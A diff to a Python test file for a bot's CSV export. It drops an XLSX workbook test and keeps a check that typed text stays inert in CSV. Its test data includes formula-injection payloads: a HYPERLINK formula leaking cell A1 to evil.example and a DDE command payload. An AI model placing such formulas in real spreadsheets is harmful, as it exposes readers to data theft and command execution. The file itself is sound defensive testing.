@@ -1,20 +1,17 @@
-"""Text people typed never becomes a live formula in the head's XLSX or CSV files (issue 15)."""
+"""Text people typed never becomes a live formula in the head's CSV files (issue 15); the
+workbooks write typed text as text (tests/unit/test_documents.py)."""
 
 from __future__ import annotations
 
 import csv
 import io
-from datetime import UTC, datetime
 
 import pytest
-from openpyxl import load_workbook
 
 from bot.exports import csv as csv_export
-from bot.exports.xlsx_layout import new_workbook, to_bytes
 
 pytestmark = pytest.mark.hardening
 
-MOMENT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
 TYPED = [
     '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
     "=cmd|' /C calc'!A0",
@@ -25,20 +22,6 @@ TYPED = [
     "=1+1",
 ]
 HARMLESS = ["- Một gạch đầu dòng", "Bình thường", "-", "7,5"]
-OURS = ["=SUM(D5:D9)", "=RANK(E5,$E$5:$E$9,0)", "='Tự chấm'!E5", "=E5-F5", "=0"]
-
-
-def test_typed_text_is_text_in_the_workbook_and_our_formulas_stay_formulas() -> None:
-    workbook = new_workbook("Thử", MOMENT)
-    sheet = workbook.active
-    assert sheet is not None
-    workbook.create_sheet("Tự chấm")
-    for row, value in enumerate([*TYPED, *HARMLESS, *OURS], start=1):
-        sheet.cell(row=row, column=1, value=value)
-    read = load_workbook(io.BytesIO(to_bytes(workbook, MOMENT)))
-    cells = {cell.value: cell.data_type for (cell,) in read.worksheets[0].iter_rows(max_col=1)}
-    assert {value: cells[value] for value in TYPED} == {value: "s" for value in TYPED}
-    assert {value: cells[value] for value in OURS} == {value: "f" for value in OURS}
 
 
 def test_typed_text_is_inert_in_csv() -> None:
